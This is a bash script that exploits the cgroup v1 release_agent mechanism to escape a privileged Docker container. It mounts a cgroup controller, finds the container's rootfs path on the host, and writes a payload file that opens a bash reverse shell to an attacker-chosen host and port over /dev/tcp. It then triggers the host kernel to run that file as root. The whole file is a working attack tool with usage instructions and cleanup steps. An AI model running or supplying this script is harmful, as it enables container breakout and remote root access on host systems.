#!/bin/bash
# cgroup v1 notify_on_release hook.
# Needs: root in container + CAP_SYS_ADMIN, no AppArmor mount restriction.
# The host kernel runs release_agent as root in the init namespaces when the
# last task leaves a cgroup with notify_on_release=1.
#
#   ./cgroup_notify_hook.sh -H 10.13.37.5 -P 9001
#   ./cgroup_notify_hook.sh -H 10.13.37.5 -P 9001 -c rdma -d /tmp/.cg

LHOST=""
LPORT=9001
SUBSYS=""
CG_DIR=/tmp/.cgx
CHILD=x

usage() {
    echo "usage: $0 -H host [-P port] [-c subsystem] [-d dir]" >&2
    exit 1
}

while getopts "H:P:c:d:" opt; do
    case $opt in
        H) LHOST=$OPTARG ;;
        P) LPORT=$OPTARG ;;
        c) SUBSYS=$OPTARG ;;
        d) CG_DIR=$OPTARG ;;
        *) usage ;;
    esac
done
[ -n "$LHOST" ] || usage

msg() { echo "[$(date +%T)] $*"; }

pick_subsystem() {
    # any v1 controller not already mounted in this container will do
    local s
    for s in rdma memory blkio freezer pids; do
        if ! grep -qw "$s" /proc/self/mountinfo; then
            if grep -qw "^$s" /proc/cgroups; then
                echo "$s"
                return 0
            fi
        fi
    done
    echo rdma
}

host_path_of_rootfs() {
    # overlayfs upperdir is the host-side path of our writable layer
    local p
    p=$(sed -n 's/.*\bupperdir=\([^,]*\).*/\1/p' /etc/mtab | head -n1)
    if [ -z "$p" ]; then
        # devicemapper / btrfs fallback: find it through the container id
        local cid
        cid=$(sed -n 's#.*/docker/\([0-9a-f]\{64\}\).*#\1#p' /proc/self/mountinfo | head -n1)
        [ -n "$cid" ] && p="/var/lib/docker/containers/$cid/rootfs"
    fi
    echo "$p"
}

prepare_cgroup() {
    mkdir -p "$CG_DIR"
    if ! mount -t cgroup -o "$SUBSYS" cgroup "$CG_DIR" 2>/dev/null; then
        msg "mount of $SUBSYS cgroup failed (no CAP_SYS_ADMIN or AppArmor)"
        return 1
    fi
    mkdir -p "$CG_DIR/$CHILD"
    echo 1 > "$CG_DIR/$CHILD/notify_on_release"
    return 0
}

write_payload() {
    local host_root=$1
    cat > /cmd <<EOF
#!/bin/sh
nohup bash -c 'bash -i >& /dev/tcp/$LHOST/$LPORT 0>&1' >/dev/null 2>&1 &
EOF
    chmod a+x /cmd
    echo "$host_root/cmd" > "$CG_DIR/release_agent"
    msg "release_agent -> $(cat "$CG_DIR/release_agent")"
}

trigger() {
    # a short-lived task in the child cgroup; when it exits the cgroup is empty
    sh -c "echo \$\$ > $CG_DIR/$CHILD/cgroup.procs; sleep 0.2"
    sleep 1
}

cleanup() {
    rmdir "$CG_DIR/$CHILD" 2>/dev/null
    umount "$CG_DIR" 2>/dev/null
    rm -f /cmd
}

main() {
    [ "$(id -u)" -eq 0 ] || { msg "need root inside the container"; exit 1; }
    [ -n "$SUBSYS" ] || SUBSYS=$(pick_subsystem)
    msg "using cgroup v1 subsystem: $SUBSYS"
    local host_root
    host_root=$(host_path_of_rootfs)
    if [ -z "$host_root" ]; then
        msg "could not work out the host path of the container rootfs"
        exit 1
    fi
    msg "container rootfs on host: $host_root"
    prepare_cgroup || exit 1
    write_payload "$host_root"
    msg "triggering release; expect a connection on $LHOST:$LPORT"
    trigger
    cleanup
}

main
